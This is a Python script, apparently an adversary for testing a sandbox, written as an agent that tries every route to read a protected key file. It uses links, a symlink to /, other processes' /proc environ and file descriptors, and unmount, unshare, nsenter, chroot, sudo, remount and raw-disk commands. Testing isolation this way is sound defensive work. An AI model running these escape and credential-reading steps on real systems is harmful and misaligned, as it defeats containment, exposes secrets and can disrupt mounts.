"""An agent that was told where the key is, and tries every way to read it. Prints all it could get."""

import contextlib
import glob
import os
import subprocess
import sys

KEY = sys.argv[1]


def show(path: str) -> None:
    with contextlib.suppress(OSError), open(path, "rb") as file:
        sys.stdout.write(file.read(200_000).decode("utf-8", "replace"))


def by_name() -> None:
    show(KEY)
    for folder in (KEY, os.path.dirname(KEY), os.path.expanduser("~"), *sys.argv[2:]):
        for found in [folder, *glob.glob(f"{folder}/**", recursive=True), *glob.glob(f"{folder}/.*")]:
            show(found)


def by_links() -> None:
    for name, make in (("soft", os.symlink), ("hard", os.link)):
        for folder in (".", os.path.expanduser("~")):
            with contextlib.suppress(OSError):
                make(KEY, f"{folder}/{name}")
            show(f"{folder}/{name}")
    with contextlib.suppress(OSError):
        os.symlink("/", "all")
    show(f"all{KEY}")


def by_parents() -> None:
    folder = os.getcwd()
    while folder != "/":
        folder = os.path.dirname(folder)
        for found in glob.glob(f"{folder}/*") + glob.glob(f"{folder}/.*"):
            show(f"{found}/{os.path.basename(KEY)}")


def by_processes() -> None:
    for process in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline", f"root{KEY}", f"cwd/{os.path.basename(KEY)}"):
            show(f"{process}/{name}")
        for found in glob.glob(f"{process}/fd/*"):
            if os.path.exists(found) and not os.path.samefile(found, "/dev/null") and os.path.isfile(found):
                show(found)


def by_mounts() -> None:
    folder = os.path.dirname(KEY)
    tries = (
        f"umount -l {folder}; cat {KEY}",
        # In mounts of its own: where no jail holds and root runs this, it would otherwise cover the machine's /tmp.
        f"unshare -m sh -c 'mount --bind / /tmp; cat /tmp{KEY}'",
        f"mount -o remount,rw /; mv {folder} {folder}-moved; cat {folder}-moved/*",
        f"unshare -Urm sh -c 'umount -l {folder}; cat {KEY}; mount --bind / /mnt; cat /mnt{KEY}'",
        f"nsenter -t 1 -m cat {KEY}; nsenter -t {os.getppid()} -m cat {KEY}",
        f"chroot / cat {KEY}; sudo -n cat {KEY}; su -c 'cat {KEY}'",
        f"setpriv --reuid 0 cat {KEY}; mknod disk b 254 0 && head -c 100000 disk",
    )
    for text in tries:
        done = subprocess.run(
            ["sh", "-c", text], capture_output=True, stdin=subprocess.DEVNULL, timeout=20, check=False
        )
        sys.stdout.write(done.stdout.decode("utf-8", "replace"))


for way in (by_name, by_links, by_parents, by_processes, by_mounts):
    way()
sys.stdout.write("tried everything\n")
